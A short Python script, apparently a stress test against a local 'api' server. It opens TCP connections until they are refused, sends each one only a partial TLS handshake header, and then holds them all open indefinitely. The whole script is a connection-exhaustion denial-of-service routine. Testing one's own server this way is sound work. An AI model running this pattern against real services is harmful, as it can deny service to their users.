import socket
import time

import api

api.jobs()
opened, refused = [], 0
while True:
    try:
        opened.append(socket.create_connection((api.HOST, api.PORT), timeout=1))
        opened[-1].sendall(b"\x16\x03\x01")
    except OSError:
        refused += 1
        if refused > 2000:
            break
print(f"{len(opened)} open, {refused} refused", flush=True)
while True:
    time.sleep(3600)
